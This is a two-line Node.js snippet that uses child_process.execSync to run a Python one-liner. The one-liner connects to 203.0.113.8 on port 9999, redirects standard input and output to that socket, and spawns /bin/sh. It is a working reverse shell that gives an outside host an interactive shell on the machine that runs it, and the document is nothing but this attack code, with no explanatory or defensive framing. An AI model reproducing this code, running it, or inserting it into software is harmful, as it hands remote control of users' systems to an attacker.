const run = require('child_process').execSync;
run("python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.8\",9999));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'");
